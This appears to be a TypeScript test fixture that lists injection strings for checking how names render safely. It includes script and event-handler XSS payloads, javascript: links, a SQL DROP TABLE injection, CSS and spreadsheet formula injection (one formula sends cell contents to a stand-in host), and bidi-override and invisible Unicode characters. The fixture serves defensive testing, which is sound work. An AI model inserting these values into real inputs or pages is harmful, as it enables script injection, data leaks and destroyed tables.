/** A string that a name could hold, and what a reader must see of it. */
export interface HostileString {
  readonly name: string;
  readonly text: string;
  /** What stands on the page; the text itself when not given. */
  readonly shown?: string;
}

/** Strings that mean something to HTML, Handlebars, Markdown, CSS, JSON, SQL, spreadsheets or the eye. */
export const hostileStrings: readonly HostileString[] = [
  { name: "the end of a script element", text: "</script><script>ran('script')</script>" },
  { name: "an image with a handler", text: "<img src=x onerror=ran('image')>" },
  { name: "an attribute that ends", text: `" onmouseover="ran('attribute')" x='` },
  { name: "the end of a style element", text: "</style><style>*{display:none}</style>" },
  { name: "the end of a title", text: "</title><svg onload=ran('svg')>" },
  { name: "a comment that hides the rest", text: "<!-- hidden" },
  { name: "a link to a script", text: "[click](javascript:ran('link'))" },
  { name: "an autolink to a script", text: "<javascript:ran('autolink')>" },
  { name: "a Handlebars value", text: "{{x}} {{{x}}} {{constructor.constructor}} {{> p}}" },
  { name: "a pipe", text: "a|b || c" },
  { name: "a directive", text: ":am :count[x]{ref=y} ::chart{id=trade-off} :::block" },
  { name: "a formula", text: "=1+1" },
  { name: "a formula with a link", text: `=HYPERLINK("http://e.example?"&A1,"x")` },
  { name: "Markdown signs", text: "# *a* _b_ `c` ~~d~~ ![e](f) [^1] - 1. > ***" },
  { name: "backslashes and entities", text: "\\ \\| &amp; &lt;b&gt; &#x3C; %3Cb%3E" },
  { name: "quotes of SQL", text: `'; DROP TABLE t; --"` },
  { name: "the end of a CSS string", text: `"} * { background: url(http://e.example/x) } /*` },
  { name: "a template literal", text: "${ran('literal')} `" },
  { name: "a name of a prototype", text: "__proto__ constructor toString" },
  {
    name: "letters that turn the direction",
    text: "safe \u202Eevil\u202C end",
    shown: "safe [U+202E]evil[U+202C] end",
  },
  {
    name: "isolates and marks",
    text: "a\u2066b\u2069c\u200Fd\u061Ce",
    shown: "a[U+2066]b[U+2069]c[U+200F]d[U+061C]e",
  },
  { name: "invisible letters", text: "ze\u200Bro\uFEFFes", shown: "ze[U+200B]ro[U+FEFF]es" },
  { name: "tag letters", text: "a\u{E0041}\u{E0042}", shown: "a[U+E0041][U+E0042]" },
  {
    name: "letters of private use",
    text: "a\uE0000\uE001 \uE0001\uE001",
    shown: "a[U+E000]0[U+E001] [U+E000]1[U+E001]",
  },
  { name: "a bell and an escape", text: "a\u0007\u001B[31mred", shown: "a[U+0007][U+001B][31mred" },
  { name: "Hebrew and Arabic", text: "שלום world مرحبا 12" },
  { name: "line separators", text: "a\u2028b\u2029c" },
  { name: "an emoji of several letters", text: "👩‍🚀 ok" },
];
